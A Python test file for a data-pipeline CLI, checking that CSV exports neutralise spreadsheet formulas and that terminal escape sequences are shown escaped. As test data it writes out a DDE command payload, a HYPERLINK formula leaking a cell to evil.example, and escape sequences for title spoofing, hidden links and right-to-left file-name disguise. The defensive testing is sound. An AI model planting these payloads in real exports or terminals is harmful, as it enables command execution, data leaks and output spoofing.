"""CSV exports defuse spreadsheet formulas; no control character from data or file names reaches
the terminal (defect 6 of issue 11)."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import pyarrow as pa
from click.testing import CliRunner

from pipelines.cli import main
from pipelines.cli_output import csv_safe, terminal_safe
from pipelines.land.kb import KnowledgeBase

SCHEMA = pa.schema([pa.field("record_id", pa.string(), nullable=False), pa.field("document_id", pa.string(), nullable=False),
                    pa.field("invoice_number", pa.string()), pa.field("total", pa.decimal128(12, 2)),
                    pa.field("batch_id", pa.string())])
HOSTILE = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+2", "-2+3",
           "@SUM(A1:A9)", "\t=1", "\r=1", "plain", "a=b"]
ESCAPES = "\x1b[2J\x1b]0;owned\x07\x1b]8;;http://evil.example\x1b\\link\x9b31m\r\u202eftp.exe"


def test_csv_export_defuses_formulas_and_keeps_numbers(tmp_path: Path):
    from decimal import Decimal

    kb = KnowledgeBase(tmp_path / "kb")
    kb.write_records("invoice", [{"record_id": f"d:{i}", "document_id": "d", "invoice_number": v, "total": Decimal("-12.50")}
                                 for i, v in enumerate(HOSTILE)], SCHEMA, "b1")
    # Without the guard a spreadsheet gets the formulas as they are.
    assert "=cmd|' /C calc'!A0" in [r["invoice_number"] for r in kb.read("invoice").to_pylist()]
    res = CliRunner().invoke(main, ["query", "--kb", str(kb.root), "--format", "csv",
                                    "SELECT record_id, invoice_number, total FROM invoice ORDER BY record_id"])
    assert res.exit_code == 0, res.output
    rows = list(csv.DictReader(io.StringIO(res.output)))
    got = {r["record_id"]: r["invoice_number"] for r in rows}
    for i, value in enumerate(HOSTILE):
        cell = got[f"d:{i}"]
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
        assert cell == terminal_safe("'" + value if value[0] in "=+-@\t\r" else value)
    assert {r["total"] for r in rows} == {"-12.50"}  # a negative number is a number, not a formula
    assert all(line.startswith('"') for line in res.output.splitlines())  # text cells quoted


def test_no_escape_sequence_reaches_the_terminal_from_query_results(tmp_path: Path):
    kb = KnowledgeBase(tmp_path / "kb")
    kb.write_records("invoice", [{"record_id": "d:1", "document_id": "d", "invoice_number": ESCAPES}], SCHEMA, "b1")
    for fmt in ("table", "csv", "json"):
        res = CliRunner().invoke(main, ["query", "--kb", str(kb.root), "--format", fmt, "SELECT invoice_number FROM invoice"])
        assert res.exit_code == 0
        assert not any(c in res.output for c in "\x1b\x07\x9b\r\u202e"), (fmt, res.output)
        assert "\\x1b" in res.output or "\\u001b" in res.output
    res = CliRunner().invoke(main, ["query", "--kb", str(kb.root), "SELECT * FROM \"evil\x07\x9b2Jtable\""])
    assert res.exit_code != 0 and "\x07" not in res.output and "evil\\x07\\x9b2Jtable" in res.output  # errors too


def test_file_names_with_escapes_are_shown_escaped_by_a_real_mapper_parse(tmp_path: Path):
    name = "invoice\x1b]0;owned\x07\x1b[8m.txt"
    (tmp_path / name).write_text("Invoice number INV-1\nTotal 10.00\n")
    assert (tmp_path / name).exists()  # the file system takes such names
    proc = subprocess.run([str(Path(sys.executable).parent / "mapper"), "parse", str(tmp_path)],
                          capture_output=True, timeout=300)
    assert proc.returncode == 0, proc.stderr
    assert b"\x1b" not in proc.stdout and b"\x07" not in proc.stdout and b"\x1b" not in proc.stderr
    assert b"invoice\\x1b]0;owned\\x07" in proc.stdout  # (click itself drops CSI sequences off a tty)


def test_helpers():
    assert terminal_safe("a\tb\nc\x00\x7f\u2066") == "a\tb\nc\\x00\\x7f\\u2066"
    assert csv_safe(-5) == -5 and csv_safe("-5") == "'-5" and csv_safe(None) is None
